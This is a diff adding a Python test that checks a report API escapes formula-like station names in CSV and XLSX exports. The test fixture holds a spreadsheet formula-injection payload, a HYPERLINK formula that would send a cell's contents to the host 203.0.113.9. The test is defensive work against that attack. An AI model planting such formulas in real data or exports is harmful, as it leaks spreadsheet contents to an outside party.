@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import uuid
+import zipfile
 from datetime import datetime
 from typing import Any
 
@@ -209,3 +210,26 @@ async def test_report_numbers_for_city_and_county(central: Central) -> None:
         params={"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"},
     )
     assert status == 400
+
+
+async def test_a_station_named_like_a_formula_stays_text_in_the_csv_and_the_workbook(
+    central: Central,
+) -> None:
+    # The edge box (the supervised party) names its camera's station; a regulator opens the
+    # report in a spreadsheet program, where a formula would run (or send cells away).
+    formula = '=HYPERLINK("http://203.0.113.9/?"&B3,"详情")'
+    await central.event("demo-canteen-a", "cam1", station=formula)
+    await central.event("demo-canteen-a", "cam1", station="@SUM(1+1)")
+    headers = await central.token("city-monitor")
+    resp = await central.client.get("/api/v1/reports", params={"format": "csv"}, headers=headers)
+    rows = list(csv.reader(io.StringIO(await resp.text())))
+    stations = {r[1]: r[2] for r in rows if r[0] == "alerts.by_station"}
+    assert stations == {f"'{formula}": "1", "'@SUM(1+1)": "1"}
+    resp = await central.client.get("/api/v1/reports", params={"format": "xlsx"}, headers=headers)
+    data = await resp.read()
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
+    assert cells[formula] == "s" and cells["@SUM(1+1)"] == "s"  # text, not formulas
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
